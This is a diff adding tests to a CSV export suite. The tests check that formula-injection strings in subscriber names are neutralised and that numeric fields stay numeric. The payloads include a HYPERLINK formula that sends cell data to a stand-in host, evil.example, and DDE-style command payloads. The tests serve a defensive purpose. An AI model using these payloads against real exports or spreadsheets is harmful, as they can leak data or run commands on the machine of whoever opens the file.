@@ -95,6 +95,40 @@ describe('CSV export', () => {
     expect(parsed.map((r) => Number(r.id))).toEqual(referenceView(rows, q({ sort: [{ colId: 'dataUsedMb', sort: 'asc' }] })).map((r) => r.id))
   })
 
+  // attack 10 (CSV formula injection): a subscriber's name or e-mail becomes a live formula in the operator's spreadsheet
+  it('neutralises formulas in text cells and keeps numbers numbers (attack 10, CSV injection)', async () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1']
+    const ids = [11, 12, 13, 14, 15, 16]
+    const set = fx.ws.db.prepare('UPDATE lines SET account_name = ?, wallet_cents = -1250 WHERE id = ?')
+    payloads.forEach((p, i) => set.run(p, ids[i]))
+    fx.ws.changed(['lines'])
+    try {
+      const { text } = await exportToString({}, { columns: ['id', 'msisdn', 'accountName', 'walletCents'] })
+      const parsed = parse(text).filter((r) => ids.includes(Number(r.id)))
+      expect(parsed.map((r) => r.accountName)).toEqual(payloads.map((p) => `'${p}`))
+      for (const r of parsed) {
+        expect(r.walletCents).toBe('-1250') // a negative number in a numeric column stays a number
+        expect(r.msisdn).toMatch(/^\+1\d{10}$/) // an E.164 number is a number, not a formula
+      }
+    } finally {
+      const back = fx.ws.db.prepare('UPDATE lines SET account_name = ?, wallet_cents = ? WHERE id = ?')
+      for (const id of ids) {
+        const r = rows.find((x) => x.id === id)!
+        back.run(r.accountName, r.walletCents, id)
+      }
+      fx.ws.changed(['lines'])
+    }
+  })
+
+  it('neutralises formulas field by field, but not plain numbers written as text', () => {
+    expect(csvField('=1+1')).toBe("'=1+1")
+    expect(csvField('@x')).toBe("'@x")
+    expect(csvField('-1250')).toBe('-1250')
+    expect(csvField(-1250)).toBe('-1250')
+    expect(csvField('+15125550123')).toBe('+15125550123')
+    expect(csvField('=A1,B1')).toBe(`"'=A1,B1"`)
+  })
+
   it('refuses a malformed query with BAD_INPUT', async () => {
     await expect(exportToString({ sort: [{ colId: 'nope' as never, sort: 'asc' }] })).rejects.toMatchObject({ code: 'BAD_INPUT' })
   })
